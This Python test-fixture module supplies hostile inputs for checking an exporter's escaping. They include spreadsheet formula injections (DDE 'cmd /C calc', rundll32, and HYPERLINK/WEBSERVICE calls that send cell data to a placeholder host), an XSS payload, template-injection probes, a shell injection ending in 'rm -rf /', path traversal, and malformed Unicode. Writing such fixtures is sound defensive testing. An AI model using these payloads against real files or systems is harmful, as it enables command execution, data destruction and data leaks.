"""Texts that try to be something else: formulas, commands, markup, control characters, endless and odd names."""

from __future__ import annotations

_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = ("", " ", "　", "\t", "\r", "\n", "\0", "\ufeff", "\u200b", "'")
_FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://example.invalid/?"&A1,"開く")',
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    '=WEBSERVICE("http://example.invalid/")',
    "=INDIRECT(\"'C:\\[x.xlsx]S'!A1\")",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝１＋１",
    "{=1+1}",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IF(1=1,"真","偽")',
    "=R1C1",
    "=A1",
    "=1/0",
    "=TRUE",
    "=-1",
    "=+1",
    "==1",
    '=""',
    "=x'",
    "=1;2",
    "= 1",
)
FORMULAS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_FORMULAS,
            *(f"{before}{start}1+1" for before in _BEFORE for start in _STARTS),
        ]
    )
)
"""Over a hundred, with white space, signs of no width and full-width signs before and instead of the first one."""

MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<b>太字</b>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table>",
    "<!-- ",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;&amp;&#60;",
    "<?xml version='1.0'?>",
    "<w:p/>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}",
    "{% for a in b %}",
    "{# 注 #}",
    "{{ document.__class__.__mro__ }}",
    '#eval("1")',
    '#import "x"',
    "#let x = 1",
    "$x^2$",
    "*強調* _斜体_ `code`",
    "= 見出し",
    "- 項目",
    "<label>",
    "@ref",
    "\\textbf{x}",
    "{0}{year}{}",
    "%s %(name)s %d",
    "_x0041_",
    "$(whoami) `id` ; rm -rf /",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "&A&P&D",
)
"""Markup of every format written, and of the tools that write it."""

CHARACTERS: tuple[str, ...] = (
    "\x00甲\x01乙\x08",
    "甲\x0b乙\x0c丙\x1b[31m赤",
    "甲\ud800乙",
    "\udfff",
    "甲\ufffe乙\uffff",
    "甲\u202e乙\u202c丙",
    "\u2066甲\u2069",
    "甲\u200b乙\u200d丙",
    "\ufeff甲",
    "甲\r\n乙\r丙\n丁",
    "甲\u2028乙\u2029丙\x85丁",
    "\t甲\t乙\t",
    "  前後に空白  ",
    "👩‍💻🇯🇵👍🏽",
    "e\u0301\u0302\u0303",
    "葛\U000e0100飾",
    "𠮷野家",
    "ｶﾀｶﾅ①㈱",
    "",
    " ",
    "0012",
    "1E5",
    "2007-04-23",
    "3/4",
    "TRUE",
    "NULL",
    "#N/A",
    "'先頭のアポストロフィ",
    '"引用"',
    "a,b;c\td",
)
"""Characters that files cannot hold or readers take for something else."""

ENDLESS: tuple[str, ...] = ("長" * 10_000, "x" * 10_000, "あ い " * 2_500, "甲\n" * 500)

ALL: tuple[str, ...] = (*FORMULAS, *MARKUP, *CHARACTERS, *ENDLESS)
